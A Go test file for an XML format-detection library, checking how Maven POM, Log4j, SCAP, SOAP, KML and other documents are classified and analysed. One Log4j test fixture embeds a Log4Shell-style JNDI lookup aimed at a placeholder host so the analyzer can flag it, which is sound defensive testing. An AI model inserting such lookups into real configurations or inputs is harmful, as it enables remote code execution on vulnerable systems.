package formats

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/dgallion1/xmlsift/internal/doctree"
	"github.com/dgallion1/xmlsift/internal/handler"
	"github.com/dgallion1/xmlsift/internal/parser"
)

const pomFixture = `<?xml version="1.0"?>
<project xmlns="http://maven.apache.org/POM/4.0.0">
  <modelVersion>4.0.0</modelVersion>
  <groupId>org.example</groupId>
  <artifactId>shop</artifactId>
  <version>1.2.0</version>
  <name>Shop</name>
  <dependencies>
    <dependency><groupId>junit</groupId><artifactId>junit</artifactId><version>4.13</version><scope>test</scope></dependency>
    <dependency><groupId>org.example</groupId><artifactId>core</artifactId><version>2.0-SNAPSHOT</version></dependency>
    <dependency><groupId>org.slf4j</groupId><artifactId>slf4j-api</artifactId></dependency>
  </dependencies>
  <build><plugins><plugin><artifactId>maven-compiler-plugin</artifactId></plugin></plugins></build>
  <repositories><repository><id>legacy</id><url>http://repo.example.org</url></repository></repositories>
</project>`

func recordsFixture(n int) string {
	var b strings.Builder
	b.WriteString("<conversation>")
	for i := 0; i < n; i++ {
		b.WriteString(`<message speaker="user"><text>hello there</text><ts>2024-01-01</ts></message>`)
	}
	b.WriteString("</conversation>")
	return b.String()
}

var detectionCases = []struct {
	name string
	xml  string
	want string
	conf float64
}{
	{"scap", `<arf:asset-report-collection xmlns:arf="http://scap.nist.gov/schema/asset-reporting-format/1.1" xmlns:xccdf="http://checklists.nist.gov/xccdf/1.2"/>`, "scap", 1.0},
	{"xccdf", `<Benchmark xmlns="http://checklists.nist.gov/xccdf/1.2" id="b1"><Rule id="r1" severity="high"/></Benchmark>`, "xccdf", 1.0},
	{"oval", `<oval_definitions xmlns="http://oval.mitre.org/XMLSchema/oval-definitions-5"><definitions/></oval_definitions>`, "oval", 1.0},
	{"maven", pomFixture, "maven_pom", 0.95},
	{"maven without namespace", `<project><groupId>g</groupId><artifactId>a</artifactId></project>`, "maven_pom", 0.8},
	{"ant", `<project name="app" default="build"><target name="build" depends="compile"/><target name="compile"/></project>`, "ant_build", 0.85},
	{"log4j v1", `<log4j:configuration xmlns:log4j="http://jakarta.apache.org/log4j/"><root/></log4j:configuration>`, "log4j", 1.0},
	{"log4j v2", `<Configuration><Appenders><Console name="c"/></Appenders><Loggers><Root level="info"/></Loggers></Configuration>`, "log4j", 0.9},
	{"spring", `<beans xmlns="http://www.springframework.org/schema/beans"><bean id="a" class="x.A"/></beans>`, "spring", 1.0},
	{"soap", `<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body/></s:Envelope>`, "soap", 1.0},
	{"wsdl", `<definitions xmlns="http://schemas.xmlsoap.org/wsdl/"><portType name="p"/></definitions>`, "wsdl", 1.0},
	{"xsd", `<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:element name="a"/></xs:schema>`, "xsd", 1.0},
	{"svg", `<svg xmlns="http://www.w3.org/2000/svg"><rect/></svg>`, "svg", 1.0},
	{"kml", `<kml xmlns="http://www.opengis.net/kml/2.2"><Document/></kml>`, "kml", 1.0},
	{"sitemap", `<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>https://a.example/</loc></url></urlset>`, "sitemap", 1.0},
	{"rss", `<rss version="2.0"><channel><title>t</title></channel></rss>`, "feed", 1.0},
	{"atom", `<feed xmlns="http://www.w3.org/2005/Atom"><title>t</title></feed>`, "feed", 1.0},
	{"docbook", `<book xmlns="http://docbook.org/ns/docbook"><title>Guide</title></book>`, "docbook", 1.0},
	{"records", recordsFixture(12), "records", 0.6},
	{"generic", `<inventory><widget id="1"/></inventory>`, "generic", 0.0},
}

func parse(t *testing.T, src string) *doctree.ParsedDocument {
	t.Helper()
	doc, err := parser.Parse([]byte(src), "fixture.xml")
	require.NoError(t, err)
	return doc
}

func newDetector(t *testing.T) *handler.Detector {
	t.Helper()
	reg, err := DefaultRegistry(nil)
	require.NoError(t, err)
	return handler.NewDetector(reg, nil)
}

func TestDefaultRegistry_Detection(t *testing.T) {
	d := newDetector(t)
	for _, tc := range detectionCases {
		t.Run(tc.name, func(t *testing.T) {
			res := d.Detect(parse(t, tc.xml))
			assert.Equal(t, tc.want, res.DocumentType)
			assert.InDelta(t, tc.conf, res.Confidence, 1e-9)
			assert.GreaterOrEqual(t, res.Confidence, 0.0)
			assert.LessOrEqual(t, res.Confidence, 1.0)
			assert.Empty(t, res.Warnings)
		})
	}
}

func TestDefaultRegistry_EveryHandlerAnalyzes(t *testing.T) {
	d := newDetector(t)
	for _, tc := range detectionCases {
		t.Run(tc.name, func(t *testing.T) {
			doc := parse(t, tc.xml)
			a, warnings := d.Analyze(doc, d.Detect(doc))
			assert.Empty(t, warnings)
			assert.Equal(t, tc.want, a.DocumentType)
			for k, v := range a.QualityMetrics {
				assert.True(t, v >= 0 && v <= 1, "metric %s out of range: %v", k, v)
			}
		})
	}
}

func TestDefaultRegistry_NamesAreUniqueAndOrdered(t *testing.T) {
	reg, err := DefaultRegistry(nil)
	require.NoError(t, err)
	names := reg.Names()
	assert.Equal(t, "scap", names[0])
	assert.Equal(t, "generic", names[len(names)-1])
}

func TestDefaultRegistry_SignatureTracksSettings(t *testing.T) {
	defaults, err := DefaultRegistry(nil)
	require.NoError(t, err)
	explicit, err := DefaultRegistry(DefaultSettings())
	require.NoError(t, err)
	assert.Equal(t, defaults.Signature(), explicit.Signature())
	assert.Contains(t, defaults.Signature(), "maven_pom{namespace=0.95;structure=0.8}")

	tuned, err := DefaultSettings().Merge(map[string]float64{"maven_pom.namespace": 0.1})
	require.NoError(t, err)
	reg, err := DefaultRegistry(tuned)
	require.NoError(t, err)
	assert.NotEqual(t, defaults.Signature(), reg.Signature())
	assert.Contains(t, reg.Signature(), "maven_pom{namespace=0.1;structure=0.8}")
}

func TestGeneric_FindingsAreStructuralOnly(t *testing.T) {
	d := newDetector(t)
	doc := parse(t, `<inventory><widget id="1"/><widget id="2"><part/></widget></inventory>`)
	det := d.Detect(doc)
	require.Equal(t, "generic", det.DocumentType)
	assert.Equal(t, 0.0, det.Confidence)

	a, _ := d.Analyze(doc, det)
	require.Len(t, a.KeyFindings, 1)
	stats, ok := a.KeyFindings["statistics"].(map[string]any)
	require.True(t, ok)
	assert.Equal(t, 4, stats["total_elements"])
	assert.Equal(t, 3, stats["unique_elements"])
	assert.Equal(t, 3, stats["max_depth"])
}

func TestProcessingHints(t *testing.T) {
	for _, h := range Builtin(nil) {
		adv, ok := h.(handler.Advisor)
		require.True(t, ok, h.Name())
		hint := adv.ProcessingHint()
		assert.NotEmpty(t, hint.Approach, h.Name())
		assert.NotEmpty(t, hint.ExtractionPattern, h.Name())
	}

	d := newDetector(t)
	doc := parse(t, pomFixture)
	a, _ := d.Analyze(doc, d.Detect(doc))
	require.NotNil(t, a.Processing)
	assert.Equal(t, "Dependency graph extraction", a.Processing.Approach)
	assert.Contains(t, a.Processing.KeyElements, "dependency")
	require.NotNil(t, a.Structure)
	deps := a.Structure.Child("dependencies")
	require.NotNil(t, deps)
	assert.Equal(t, 3, deps.Child("dependency").Count)

	doc = parse(t, `<inventory><widget id="1"/><widget id="2"><part/></widget></inventory>`)
	a, _ = d.Analyze(doc, d.Detect(doc))
	require.NotNil(t, a.Processing)
	assert.Equal(t, "General XML processing", a.Processing.Approach)
	assert.Equal(t, []string{"widget", "inventory", "part"}, a.Processing.KeyElements)
	assert.Equal(t, []string{"id"}, a.Structure.Child("widget").Attributes)
}

func TestMavenPOM_Findings(t *testing.T) {
	a, err := NewMavenPOM(DefaultSettings()).Analyze(parse(t, pomFixture).Root, "pom.xml")
	require.NoError(t, err)

	deps := a.KeyFindings["dependencies"].(map[string]any)
	assert.Equal(t, 3, deps["total"])
	assert.Equal(t, map[string]int{"test": 1, "compile": 2}, deps["by_scope"])
	assert.Equal(t, []string{"org.example:core"}, deps["snapshots"])
	assert.Equal(t, []string{"org.slf4j:slf4j-api"}, deps["unversioned"])

	info := a.KeyFindings["project_info"].(map[string]any)
	assert.Equal(t, "shop", info["artifact_id"])
	assert.Equal(t, "jar", info["packaging"])

	assert.InDelta(t, 2.0/3.0, a.QualityMetrics["dependency_management"], 1e-9)
	assert.InDelta(t, 1.0/6.0, a.QualityMetrics["completeness"], 1e-9)
	assert.NotEmpty(t, a.Recommendations)
	assert.True(t, NewMavenPOM(nil).AtomicElements()["dependency"])
}

func TestLog4j_DetectsJNDILookups(t *testing.T) {
	src := `<Configuration><Appenders><Socket name="remote" host="${jndi:ldap://evil/x}"/></Appenders><Loggers><Logger name="app" level="debug"/><Root level="info"/></Loggers></Configuration>`
	a, err := NewLog4j(DefaultSettings()).Analyze(parse(t, src).Root, "")
	require.NoError(t, err)
	issues := a.KeyFindings["security_issues"].([]string)
	assert.Len(t, issues, 2, "jndi attribute and network appender")
	assert.Equal(t, "info", a.KeyFindings["root_level"])
	assert.Equal(t, 0.0, a.QualityMetrics["security_score"])
}

func TestSCAP_Compliance(t *testing.T) {
	src := `<arf:asset-report-collection xmlns:arf="http://scap.nist.gov/schema/asset-reporting-format/1.1">
	  <TestResult>
	    <rule-result idref="r1" severity="high"><result>fail</result></rule-result>
	    <rule-result idref="r2" severity="low"><result>pass</result></rule-result>
	    <rule-result idref="r3" severity="low"><result>pass</result></rule-result>
	    <rule-result idref="r4" severity="medium"><result>notapplicable</result></rule-result>
	  </TestResult>
	</arf:asset-report-collection>`
	a, err := NewSCAP(DefaultSettings()).Analyze(parse(t, src).Root, "")
	require.NoError(t, err)
	assert.InDelta(t, 2.0/3.0, a.QualityMetrics["compliance_rate"], 1e-9)
	assert.Equal(t, []string{"r1"}, a.KeyFindings["failed_rules"])
	assert.Contains(t, a.Recommendations[0], "1 high-severity")
}

func TestSOAP_ContentCategoryMarksPayloads(t *testing.T) {
	src := `<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Header><token>abc</token></s:Header><s:Body><upload><file>` +
		strings.Repeat("QUJD", 40) + `</file><note>short</note></upload></s:Body></s:Envelope>`
	doc := parse(t, src)
	h := NewSOAP(DefaultSettings())

	file := doc.Root.Lookup("Body", "upload", "file")
	cat, ok := h.ContentCategory(file)
	require.True(t, ok)
	assert.Equal(t, doctree.CategoryAttachment, cat)

	token := doc.Root.Lookup("Header", "token")
	cat, ok = h.ContentCategory(token)
	require.True(t, ok)
	assert.Equal(t, doctree.CategoryMetadata, cat)

	_, ok = h.ContentCategory(doc.Root.Lookup("Body", "upload", "note"))
	assert.False(t, ok)

	a, err := h.Analyze(doc.Root, "")
	require.NoError(t, err)
	assert.Equal(t, "1.1", a.KeyFindings["soap_version"])
	assert.Equal(t, "upload", a.KeyFindings["operation"])
	assert.Equal(t, 1, a.KeyFindings["attachments"])
}

func TestKML_BoundingBox(t *testing.T) {
	src := `<kml xmlns="http://www.opengis.net/kml/2.2"><Document><name>Trip</name>
	  <Placemark><name>A</name><Point><coordinates>-122.1,37.4,0</coordinates></Point></Placemark>
	  <Placemark><Point><coordinates>-121.9,37.8</coordinates></Point></Placemark>
	</Document></kml>`
	a, err := NewKML(DefaultSettings()).Analyze(parse(t, src).Root, "")
	require.NoError(t, err)
	box := a.KeyFindings["bounding_box"].(map[string]float64)
	assert.Equal(t, -122.1, box["min_lon"])
	assert.Equal(t, 37.8, box["max_lat"])
	assert.Equal(t, "Trip", a.KeyFindings["document_name"])
	assert.Equal(t, 0.5, a.QualityMetrics["naming"])
}

func TestRecords_ProbeThresholds(t *testing.T) {
	h := NewRecords(DefaultSettings())
	ok, _, err := h.Probe(parse(t, recordsFixture(5)).Root, nil)
	require.NoError(t, err)
	assert.False(t, ok, "too few records")

	a, err := h.Analyze(parse(t, recordsFixture(12)).Root, "")
	require.NoError(t, err)
	assert.Equal(t, "message", a.KeyFindings["record_tag"])
	assert.Equal(t, []string{"@speaker", "text", "ts"}, a.KeyFindings["common_fields"])
	assert.Equal(t, 1.0, a.QualityMetrics["field_consistency"])
}

func TestSettings_Merge(t *testing.T) {
	s, err := DefaultSettings().Merge(map[string]float64{"maven_pom.namespace": 0.5})
	require.NoError(t, err)
	ok, conf, err := NewMavenPOM(s).Probe(parse(t, pomFixture).Root, nil)
	require.NoError(t, err)
	assert.True(t, ok)
	assert.Equal(t, 0.5, conf)

	_, err = DefaultSettings().Merge(map[string]float64{"maven_pom.nope": 1})
	assert.ErrorContains(t, err, "maven_pom.nope")
}
